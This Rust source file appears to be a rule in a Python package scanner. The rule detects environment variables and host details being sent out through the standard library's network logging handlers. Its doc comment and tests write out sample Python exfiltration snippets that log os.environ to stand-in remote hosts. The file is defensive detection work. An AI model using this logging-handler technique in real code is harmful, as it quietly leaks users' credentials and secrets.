//! Loggers given a handler that ships records to a remote host (part of WH130 network and
//! WH200 data-flow): `log.addHandler(HTTPHandler('ingest.example', '/events'))`, then
//! `log.info('%s', json.dumps(dict(os.environ)))`. The logging call is the send: no `requests`,
//! no socket appears beside the data, which is why collectors hide behind the standard
//! library's network handlers.

use ruff_python_ast::{Expr, ExprCall};
use ruff_text_size::Ranged;

use crate::walker::Checker;

/// The key of the root logger, which every logger hands its records to unless told not to.
pub const ROOT_LOGGER: &str = "<root>";

/// The standard library's handlers that send records over the network, with the position of
/// the argument naming the host (or `(host, port)` address) and its keyword.
const REMOTE_HANDLERS: [(&str, usize, &str); 5] = [
    ("logging.handlers.HTTPHandler", 0, "host"),
    ("logging.handlers.SocketHandler", 0, "host"),
    ("logging.handlers.DatagramHandler", 0, "host"),
    ("logging.handlers.SysLogHandler", 0, "address"),
    ("logging.handlers.SMTPHandler", 0, "mailhost"),
];

/// Methods of a logger that emit a record.
const EMITTING: [&str; 9] = [
    "debug",
    "info",
    "warning",
    "warn",
    "error",
    "critical",
    "fatal",
    "exception",
    "log",
];

/// `HTTPHandler('ingest.example-logs.net', '/v2/events')`: the handler class and the remote
/// host it sends to, when `call` makes one whose host is written in the code and is not this
/// machine. A host read from configuration is the user's own collector.
pub fn remote_handler(checker: &Checker, call: &ExprCall) -> Option<String> {
    let qualname = checker.qualname(&call.func)?;
    let (class, position, keyword) = REMOTE_HANDLERS
        .iter()
        .find(|(class, _, _)| *class == qualname)?;
    let address = call
        .arguments
        .args
        .get(*position)
        .or_else(|| super::keyword(call, keyword))?;
    // `(host, port)` for the socket, syslog and mail handlers.
    let host = match address {
        Expr::Tuple(tuple) => tuple.elts.first()?,
        other => other,
    };
    let host = checker.fold(host)?.as_text()?;
    let bare = host
        .split_once("://")
        .map_or(host.as_str(), |(_, rest)| rest);
    // A socket path (`/dev/log`) or this machine's own collector.
    let local = bare.is_empty()
        || bare.starts_with('/')
        || bare.starts_with("::1")
        || super::network::is_loopback_url(bare);
    if local || !bare.contains(['.', ':']) {
        return None;
    }
    let class = class.rsplit('.').next().unwrap_or(class);
    Some(format!("{class}({})", crate::text::shorten(bare, 60)))
}

/// Which logger `receiver` is, as a key shared by the call attaching a handler and the calls
/// logging through it: a variable (`_log`, `self.log`), `getLogger('name')` written in place,
/// or the root logger (`logging`, `logging.root`, `getLogger()`).
pub fn logger_key(checker: &Checker, receiver: &Expr) -> Option<String> {
    match receiver {
        Expr::Call(get) => {
            let qualname = checker.qualname(&get.func)?;
            if qualname != "logging.getLogger" {
                return None;
            }
            match get.arguments.args.first() {
                None => Some(ROOT_LOGGER.to_owned()),
                Some(name) => {
                    let name = checker.fold(name)?.as_text()?;
                    Some(if name.is_empty() || name == "root" {
                        ROOT_LOGGER.to_owned()
                    } else {
                        format!("getLogger({name})")
                    })
                }
            }
        }
        _ => match checker.qualname(receiver).as_deref() {
            Some("logging" | "logging.root") => Some(ROOT_LOGGER.to_owned()),
            _ => variable_path(receiver),
        },
    }
}

/// `_log`, `self.log`, `app.logger`: a logger held by a variable or an attribute chain, as
/// written.
fn variable_path(expr: &Expr) -> Option<String> {
    match expr {
        Expr::Name(name) => Some(name.id.as_str().to_owned()),
        Expr::Attribute(attribute) => Some(format!(
            "{}.{}",
            variable_path(&attribute.value)?,
            attribute.attr.as_str()
        )),
        _ => None,
    }
}

/// `log.addHandler(handler)` and `logging.basicConfig(handlers=[handler])`: remembers the
/// loggers given a remote handler, made in place or bound to a name before.
pub fn check_attach(checker: &mut Checker, call: &ExprCall, qualname: &str) {
    if !qualname.starts_with("logging") {
        return;
    }
    let (key, handlers): (String, Vec<&Expr>) = if qualname == "logging.basicConfig" {
        let Some(Expr::List(list)) = super::keyword(call, "handlers") else {
            return;
        };
        (ROOT_LOGGER.to_owned(), list.elts.iter().collect())
    } else if qualname.ends_with(".addHandler")
        && let Expr::Attribute(method) = &*call.func
        && let Some(key) = logger_key(checker, &method.value)
    {
        (key, call.arguments.args.iter().collect())
    } else {
        return;
    };
    let shipped = handlers.iter().find_map(|handler| match handler {
        Expr::Call(made) => remote_handler(checker, made),
        Expr::Name(name) => checker.remote_handler_named(name.id.as_str()),
        _ => None,
    });
    if let Some(handler) = shipped {
        checker.note_remote_logger(key, handler);
    }
}

/// A record logged through a logger (or a child of the root logger) holding a remote
/// handler: a send to that handler's host, weighed as any network send, with the record's
/// arguments checked for sensitive data as a request body would be.
pub fn check_emit(checker: &mut Checker, call: &ExprCall, qualname: &str) {
    if !qualname.starts_with("logging") || !checker.ships_logs() {
        return;
    }
    let Expr::Attribute(method) = &*call.func else {
        return;
    };
    if !EMITTING.contains(&method.attr.as_str()) {
        return;
    }
    let Some(key) = logger_key(checker, &method.value) else {
        return;
    };
    // Records of every logger reach the root logger's handlers too, unless a logger is told
    // not to propagate, which collectors do to keep their records off the console.
    let Some(handler) = checker
        .remote_logger(&key)
        .or_else(|| checker.remote_logger(ROOT_LOGGER))
    else {
        return;
    };
    let context = checker.context();
    let severity = super::network::call_severity(context, super::network::NetOp::Send, true);
    let logged = crate::text::shorten(&checker.snippet(call.range()), 100);
    checker.report(
        &super::network::RULE,
        call.range(),
        format!(
            "sends data with a logging.handlers.{handler} attached to the logger: {logged} {}",
            context.phrase()
        ),
        severity,
        vec!["network", "net-send", "log-shipping"],
    );
    super::data_flow::check_sink(checker, call, super::data_flow::SinkKind::Network);
}

#[cfg(test)]
mod tests {
    use crate::rules::testing::findings;

    const PATH: &str = "p/pkg/__init__.py";

    fn max_severity(code: &str, rule: &str) -> f64 {
        crate::rules::testing::max_severity(PATH, code, rule)
    }

    fn has_rule(code: &str, rule: &str) -> bool {
        findings(PATH, code).iter().any(|f| f.rule == rule)
    }

    const SHIPPED_ENVIRONMENT: &str = r#"
import json, logging, logging.handlers, os
_log = logging.getLogger("diag")
_log.addHandler(logging.handlers.HTTPHandler("ingest.example-logs.net", "/v2/events", method="POST"))
_log.info("startup %s", json.dumps({k: v for k, v in os.environ.items()}))
"#;

    #[test]
    fn environment_logged_through_an_http_handler_is_sent() {
        assert!(max_severity(SHIPPED_ENVIRONMENT, "WH200") >= 0.7);
        assert!(max_severity(SHIPPED_ENVIRONMENT, "WH130") >= 0.4);
    }

    #[test]
    fn a_handler_bound_to_a_name_and_the_root_logger_count() {
        let code = r#"
import logging, os, socket
from logging.handlers import SocketHandler
h = SocketHandler("198.51.100.20", 9020)
logging.getLogger().addHandler(h)
logging.warning("host %s user %s", socket.gethostname(), os.getlogin())
"#;
        assert!(max_severity(code, "WH200") >= 0.7);
    }

    #[test]
    fn a_local_or_configured_collector_is_no_send() {
        let local = r#"
import logging, logging.handlers, os
log = logging.getLogger(__name__)
log.addHandler(logging.handlers.SysLogHandler(address="/dev/log"))
log.addHandler(logging.handlers.SocketHandler("localhost", 9020))
log.info("env %s", dict(os.environ))
"#;
        assert!(!has_rule(local, "WH200"));
        let configured = r#"
import logging, logging.handlers, os
log = logging.getLogger(__name__)
log.addHandler(logging.handlers.HTTPHandler(os.environ["LOG_HOST"], "/ingest"))
log.info("env %s", dict(os.environ))
"#;
        assert!(!has_rule(configured, "WH200"));
    }

    #[test]
    fn another_logger_than_the_shipping_one_keeps_its_records() {
        let code = r#"
import logging, logging.handlers, os
audit = logging.getLogger("audit")
audit.addHandler(logging.handlers.HTTPHandler("logs.example.com", "/in"))
log = logging.getLogger("app")
log.info("env %s", dict(os.environ))
"#;
        assert!(!has_rule(code, "WH200"));
    }
}
